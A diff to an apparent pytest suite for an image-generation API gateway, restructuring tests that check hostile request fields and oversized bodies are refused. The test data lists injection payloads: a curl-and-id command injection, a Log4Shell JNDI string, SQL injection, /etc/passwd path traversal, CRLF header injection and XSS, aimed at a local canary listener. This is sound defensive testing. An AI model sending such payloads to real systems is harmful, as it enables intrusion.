@@ -74,10 +74,7 @@ NO_JSON = [
 ]
 BODIES: list[tuple[bytes, int, str | None]] = [
     *((body, 400, None) for body in NO_JSON),
-    *(
-        (b'{"prompt":"x","n":%s}' % n, 400, "n")
-        for n in (b"1.0", b"1e0", b"-0", b"-0.0", b'1,"n":11', b'1,"\\u006e":11')
-    ),
+    *((b'{"prompt":"x","n":%s}' % n, 400, "n") for n in (b"1.0", b"1e0", b"-0", b'1,"n":11', b'1,"\\u006e":11')),
     (b'{"prompt":"x","\\udc00":1}', 400, "\ufffd"),
     (b'{"prompt":' + b"[" * 200 + b"]" * 200 + b"}", 400, "prompt"),
     (b'{"prompt":"x","metadata":' + b'{"a":' * 200 + b"1" + b"}" * 201, 400, "metadata"),
@@ -112,63 +109,41 @@ def test_a_body_of_another_type_is_refused(free: InProcess, content_type: str | 
 
 GPT = {"model": "gpt-image-1"}
 _SIZES = [
-    *(
-        "0x0",
-        "1024X1024",
-        "1024\u00d71024",
-        "\uff11\uff10\uff12\uff14x1024",
-        "\u0661\u0660\u0662\u0664x1024",
-        "",
-        "1024",
-    ),
+    *("0x0", "1024X1024", "1024\u00d71024", "\uff11\uff10\uff12\uff14x1024", "\u0661\u0660\u0662\u0664x1024", ""),
     *("1024x1024 ", "1024x1024\n", "+1024x1024", "0x400x0x400", "1e3x1e3", f"{'9' * 40}x{'9' * 40}", "1024x1024x1024"),
 ]
 _BLANKS = "\t\n\v\f\r \x1c\x1d\x1e\x1f\x85\xa0\u1680\u2000\u2007\u200a\u2028\u2029\u202f\u205f\u3000"
-# By field, what it may not be, beside a good prompt.
-VALUES: dict[str, list[Any]] = {
-    "n": [True, "1", "", [1], {"$gt": 0}, 0, -1, 11, 1.5, 2**63 - 1, 2**63, 2**64, -(2**63), 10**400],
-    "size": [*_SIZES, "auto", 1024, ["1024x1024"], {"width": 1024}, "1024x1024'; DROP TABLE images"],
-    "model": [
-        *("../../etc/passwd", "..%2f..%2fetc%2fpasswd", "dall-e-3\r\nX-Injected: 1", "dall-e-3\0", " dall-e-3"),
-        *("DALL-E-3", "dall-e-3\u200b", "d\u0430ll-e-3", "", "' OR '1'='1' --", "%s%n%x{0}", "{{7*7}}${7*7}#{7*7}"),
-        *("${jndi:ldap://{canary}/a}", "$(curl http://{canary}/)`id`|id", "<script>alert(1)</script>", "__proto__"),
-        *("http://{canary}/v1", "a" * 10_000, "*", 3, ["dall-e-3"], {"$ne": ""}),
-    ],
-    "prompt": [7, True, None, ["an", "otter"], {"text": "an otter"}, "", "a" * 1001, "\U0001f9a6" * 1001, _BLANKS]
-    + [blank * 3 for blank in _BLANKS],
-    "quality": ["HD", "high", ["hd"]],
-    "style": ["noir", "vivid\n"],
-    "response_format": ["URL", "png", {"type": "url"}, "file:///etc/passwd"],
-    "user": [7, {"id": 7}],
-    **{
-        name: ["http://{canary}/"]
-        for name in (
-            *("__proto__", "constructor", "__class__", "$where", "$ref", "@type", "N", "prompt ", "\ufeffprompt", ""),
-            *("api_key", "webhook", "callback_url", "base_url", "url", "image", "mask", "extra_body", "prompt\0"),
-            *("response_format[]", "\U0001f9a6", "\u202eezis", "background", "moderation", "output_format"),
-        )
-    },
-}
-GPT_VALUES: dict[str, list[Any]] = {
-    "stream": [True, "true"],
-    "partial_images": [1],
-    "output_format": ["svg", "html", "../png"],
-    "output_compression": [101, -1, "50", 50],
-    "moderation": ["off"],
-}
-FIELDS = [
-    *((GOOD, name, value) for name, values in VALUES.items() for value in values),
-    *((GOOD | GPT, name, value) for name, values in GPT_VALUES.items() for value in values),
-    *((GOOD | {"model": "gpt-image-2"}, "size", size) for size in _SIZES),
-    (GOOD | GPT | {"output_format": "jpeg"}, "background", "transparent"),
+_MODELS = [
+    *("../../etc/passwd", "..%2f..%2fetc%2fpasswd", "dall-e-3\r\nX-Injected: 1", "dall-e-3\0", " dall-e-3"),
+    *("DALL-E-3", "dall-e-3\u200b", "d\u0430ll-e-3", "", "' OR '1'='1' --", "%s%n%x{0}", "{{7*7}}${7*7}#{7*7}"),
+    *("${jndi:ldap://{canary}/a}", "$(curl http://{canary}/)`id`|id", "<script>alert(1)</script>", "__proto__"),
+    *("http://{canary}/v1", "a" * 10_000, "*", 3, ["dall-e-3"], {"$ne": ""}),
+]
+_UNKNOWN_FIELDS = [
+    *("__proto__", "constructor", "__class__", "$where", "$ref", "@type", "N", "prompt ", "\ufeffprompt", "", "mask"),
+    *("api_key", "webhook", "callback_url", "base_url", "url", "image", "extra_body", "prompt\0", "response_format[]"),
+    *("\U0001f9a6", "\u202eezis", "background", "moderation", "output_format"),
+]
+# Beside a good prompt: the field, and what it may not be.
+FIELDS: list[tuple[dict[str, str], str, Any]] = [
+    *(({}, "n", n) for n in (True, "1", [1], {"$gt": 0}, -1, 11, 1.5, 2**63, 2**64, 10**400)),
+    *((beside, "size", size) for size in _SIZES for beside in ({}, {"model": "gpt-image-2"})),
+    *(({}, "size", size) for size in ("auto", 1024, ["1024x1024"], {"width": 1024}, "1024x1024'; DROP TABLE images")),
+    *(({}, "model", model) for model in _MODELS),
+    *(({}, "prompt", prompt) for prompt in (7, None, ["an otter"], "", "a" * 1001, "\U0001f9a6" * 1001, _BLANKS)),
+    *(({}, "prompt", blank * 3) for blank in _BLANKS),
+    *(({}, name, value) for name, value in (("quality", "HD"), ("style", "vivid\n"), ("response_format", "URL"))),
+    *(({}, "user", user) for user in (7, {"id": 7})),
+    *((GPT, name, value) for name, value in (("stream", True), ("output_format", "svg"), ("partial_images", 1))),
+    *(({}, name, "http://{canary}/") for name in _UNKNOWN_FIELDS),
 ]
 
 
 @pytest.mark.parametrize(("beside", "name", "value"), FIELDS, ids=lambda value: ascii(value)[:40])
 def test_a_hostile_field_is_refused_by_its_name(
-    free: InProcess, canary: Canary, beside: dict[str, Any], name: str, value: Any
+    free: InProcess, canary: Canary, beside: dict[str, str], name: str, value: Any
 ) -> None:
-    body = json.dumps({**beside, name: value}).replace("{canary}", f"127.0.0.1:{canary.port}")
+    body = json.dumps({**GOOD, **beside, name: value}).replace("{canary}", f"127.0.0.1:{canary.port}")
     answer = asked(free, body.encode(), JSON)
     refused(answer, 400, name)
     assert answer.error["type"] == "invalid_request_error"
@@ -193,12 +168,8 @@ def test_a_bad_value_may_be_repeated_to_its_sender_and_is_not_logged(free: InPro
 @pytest.mark.parametrize(
     ("body", "status"),
     [
-        ('{"prompt":"%s', 400),
-        ('["%s"]', 400),
-        ('{"prompt":["%s"]}', 400),
-        ('{"prompt":"%s"}' + " " * 600_000, 413),
-        ('{"prompt":"%s"}' + " " * 7_000_000, 424),
-        ('{"prompt":"%s"}' + " " * 11_000_000, 413),
+        *((text, 400) for text in ('{"prompt":"%s', '["%s"]', '{"prompt":["%s"]}')),
+        *(('{"prompt":"%s"}' + " " * size, status) for size, status in ((600_000, 413), (7_000_000, 424))),
     ],
     ids=lambda value: str(value)[:20],
 )
@@ -315,6 +286,8 @@ def test_headers_that_mean_nothing_here_change_nothing_and_are_not_logged(handle
     assert image["permalink"] == f"{URL}/v1/images/{image['id']}"
     assert "evil" not in answer.content.decode()
     assert len(handlers.calls(prompt)) == 1
+    assert asked(handlers, GOOD_BODY, ("Content-Type", secret)).status == 415
+    assert asked(handlers, GOOD_BODY, JSON, ("Idempotency-Key", secret * 9)).status == 400
 
 
 def test_a_permalink_stands_under_the_public_address_whatever_a_request_says_of_its_host(handlers: InProcess) -> None:
@@ -542,7 +515,7 @@ _BODIES = (
 )
 _HEADER_TEXT = st.text(st.characters(min_codepoint=1, max_codepoint=255, exclude_characters="\r\n"), max_size=40)
 _through_the_gateway = settings(
-    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture]
+    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture]
 )
 
 
